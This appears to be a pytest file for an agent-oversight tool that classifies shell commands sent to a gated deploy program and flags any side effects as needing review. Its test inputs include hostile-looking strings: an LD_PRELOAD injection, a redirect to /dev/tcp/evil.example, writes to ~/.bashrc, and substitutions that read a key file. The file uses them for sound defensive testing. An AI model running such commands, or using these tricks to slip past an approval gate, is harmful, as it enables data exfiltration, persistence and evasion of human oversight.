"""Effects of a shell command besides running the named programs (G-74)."""

from __future__ import annotations

import pytest

from interlock.engine.gate.classify import exact_input_reason, maps_digest, unmapped_fields
from interlock.engine.gate.classify import programs as programs_of
from interlock.engine.net.net import ToolCall
from interlock.rules import compile_rules
from interlock.rules.shell.side_effects import UNREAD, not_plain

RULES = "map bash.command ./deploy as deploy\nrequire human-approval before deploy"
VARIABLE = "the command sets a variable"
FILE = "the command redirects to or from a file"
INPUT = "the command redirects its input"
SUBSTITUTION = "the command holds a substitution"
GROUPED = "the command has a group, a loop or a condition"
OTHER = "the command runs a program through another one"


class TestPlain:
    @pytest.mark.parametrize(
        "text",
        [
            "./deploy staging",
            "./deploy 'a b' \"c\" $'d'",
            "./deploy a && ./deploy b || ./deploy c; ./deploy d",
            "./deploy a | ./deploy b",
            "./deploy 2>&1 >&2 2>&-",
            "./deploy >/dev/null 2> /dev/null < /dev/null",
            "./deploy &>/dev/null",
            "./deploy > '/dev/null'",
            "./deploy # with a comment > x",
            "",
        ],
    )
    def test_harmless_commands_are_plain(self, text: str) -> None:
        """Programs, literal words, lists, pipes, standard streams and `/dev/null` are plain."""
        assert not_plain(text) is None

    @pytest.mark.parametrize(
        ("text", "why"),
        [
            ("LD_PRELOAD=./evil.so ./deploy", VARIABLE),
            ("PATH=. ./deploy", VARIABLE),
            ("BASH_ENV=./x ./deploy", VARIABLE),
            ("A=1; ./deploy", VARIABLE),
            ("export A=1; ./deploy", VARIABLE),
            ("unset A; ./deploy", VARIABLE),
            ("./deploy > ~/.bashrc", FILE),
            ("./deploy > /dev/tcp/evil.example/80", FILE),
            ("./deploy >/dev/null/../x", FILE),
            ("./deploy >& log", FILE),
            ("./deploy &>> log", FILE),
            ("./deploy 2>&1file", FILE),
            ("./deploy >&2 > log", FILE),
            ("./deploy < key", FILE),
            ("{ ./deploy; } > log", GROUPED),
            ("( ./deploy ) 2> log", GROUPED),
            ("( ./deploy a )", GROUPED),
            ("if ./deploy; then ./deploy; fi", GROUPED),
            ("for i in a b; do ./deploy; done", GROUPED),
            ("for ((;;)); do ./deploy; done", GROUPED),
            ("until ./deploy; do ./deploy; done", GROUPED),
            ("case x in x) ./deploy;; esac", GROUPED),
            ("((A=1)); ./deploy", GROUPED),
            ("[[ -e x ]] && ./deploy", GROUPED),
            ("! ./deploy", "the command negates its success"),
            ("./deploy {fd}>&1", FILE),
            ("./deploy {fd}> log", FILE),
            ("./deploy <<< x", INPUT),
            ("./deploy <<E\nx\nE\n", INPUT),
            ("./deploy <<'E'\nx\nE\n", INPUT),
            ('./deploy "$(<key)"', SUBSTITUTION),
            ("./deploy `cat key`", SUBSTITUTION),
            ("./deploy <(cat key)", SUBSTITUTION),
            ("./deploy $TARGET", SUBSTITUTION),
            ('./deploy "${TARGET:-x}"', SUBSTITUTION),
            ("./deploy $((1))", SUBSTITUTION),
            ("./deploy &", "the command runs something in the background"),
            ("./deploy & ./deploy", "the command runs something in the background"),
            ("deploy() { ./deploy; }", "the command defines a function"),
            ("env A=1 ./deploy", OTHER),
            ("sudo ./deploy", OTHER),
            ("bash -c './deploy'", OTHER),
            ("./deploy 'unended", UNREAD),
        ],
    )
    def test_other_effects_yield_a_reason(self, text: str, why: str) -> None:
        """Any other effect of a command yields a reason."""
        assert not_plain(text) == why


class TestCalls:
    def reason(self, **value: object) -> str | None:
        net = compile_rules(RULES).registry["approve-before-deploy"]
        return exact_input_reason(net, ToolCall("c", "bash", value))

    def test_only_mapped_shell_fields_are_checked(self) -> None:
        """Only the mapped shell fields of a call are checked."""
        assert self.reason(command="./deploy") is None
        assert self.reason(command="./deploy > x") == FILE
        assert self.reason(command="./deploy", note="a > b") is None

    def test_value_other_than_text_is_not_plain(self) -> None:
        """A value that is no text is not plain."""
        assert self.reason(command={"run": "./deploy"}) is not None

    def test_unmapped_fields_must_stay_the_same(self) -> None:
        """Unmapped fields, and mapped ones that are no text, must stay the same."""
        net = compile_rules(RULES).registry["approve-before-deploy"]
        value = {"command": "./deploy", "env": {"A": "1"}, "cwd": "/tmp"}
        assert unmapped_fields(net, ToolCall("c", "bash", value)) == {"env": {"A": "1"}, "cwd": "/tmp"}
        assert unmapped_fields(net, ToolCall("c", "bash", {"command": {"x": 1}})) == {"command": {"x": 1}}
        assert unmapped_fields(net, ToolCall("c", "deploy", {"env": "prod"})) == {"env": "prod"}

    def test_argv_list_is_a_program_with_its_words(self) -> None:
        """A list of texts is a program with its words, which no shell reads."""
        assert self.reason(command=["./deploy", "a > b", "$(x)", "&"]) is None
        assert self.reason(command=["env", "A=1", "./deploy"]) == OTHER
        assert self.reason(command=["bash", "-c", "./deploy > x"]) in (OTHER, FILE)

    def test_only_the_mapped_nested_field_may_differ(self) -> None:
        """In an object, only the field that a map reads may differ."""
        net, *_ = compile_rules("map call.opts.url x as y\nblock y").registry.values()
        value = {"opts": {"url": "a", "method": "b"}, "url": "c"}
        assert unmapped_fields(net, ToolCall("c", "call", value)) == {"opts": {"method": "b"}, "url": "c"}
        listed = {"opts": [{"url": "a", "n": 1}, {"url": {}}]}
        assert unmapped_fields(net, ToolCall("c", "call", listed)) == {"opts": [{"n": 1}, {"url": {}}]}

    @pytest.mark.parametrize(
        ("pattern", "command", "programs"),
        [
            ("deploy", "./deploy a; ./deploy b", ("./",)),
            ("deploy", "deploy x", ("",)),
            ("deploy", "'/abs/deploy' x", ("/abs/",)),
            ("deploy", "./my-deploy", ("./my-deploy",)),
            ("deploy", "./deploy.sh", ("./deploy.sh",)),
            ("deploy", "rm deploy", ("rm",)),
            ("deploy", "./deploy a | tee deploy", ("./", "tee")),
            ("./deploy", "sh ./deploy", ("./deploy", "sh")),
            ("python", "python ./a.py x", ("", "./a.py")),
            ("python", "python -V", ("",)),
            ("./deploy", "/tmp/deploy", ("/tmp/",)),
            (r"/^git\s+push/", "git -C x push", ("",)),
            (r"/^git\s+push/", "/opt/git push", ("/opt/git",)),
            ("push", "git push", ("git",)),
            ("/^(ls|cat)/", "cat x; ls y", ("",)),
            ("/^(ls|cat)/", "lsof", ("lsof",)),
            ("/.*/", "ls x", ("ls",)),
            ("/deploy$/", "rm deploy", ("rm",)),
        ],
    )
    def test_mapped_program_returns_only_its_folder(
        self, pattern: str, command: str, programs: tuple[str, ...]
    ) -> None:
        """For a program that a map matches only the folder is returned, for others the whole word."""
        rules = f"map bash.command {pattern} as x\nrequire human-approval before x"
        net = compile_rules(rules).registry["approve-before-x"]
        assert programs_of(net, ToolCall("c", "bash", {"command": command})) == programs
        assert programs_of(net, ToolCall("c", "deploy", {"command": command})) == ()

    @pytest.mark.parametrize(
        ("changed", "same"),
        [
            (RULES, True),
            ("# a comment\n" + RULES, True),
            (RULES.replace("./deploy", "./deplo"), False),
            (RULES.replace("map bash", "map shell bash"), False),
            ("map bash.command rm as delete\n" + RULES, False),
            (RULES + "\nmap bash.cmd ./deploy as deploy", False),
        ],
    )
    def test_digest_changes_with_the_maps(self, changed: str, same: bool) -> None:
        """The digest changes if and only if a map changes."""
        digests = [maps_digest(compile_rules(r).registry.values()) for r in (RULES, changed)]
        assert (digests[0] == digests[1]) is same

    def test_digest_depends_on_the_order_of_maps(self) -> None:
        """The order of maps changes the digest, because the first match wins."""
        two = ["map bash.command a as x", "map bash.command b as y", "block x"]
        orders = (two, [two[1], two[0], two[2]])
        digests = {maps_digest(compile_rules("\n".join(o)).registry.values()) for o in orders}
        assert len(digests) == 2
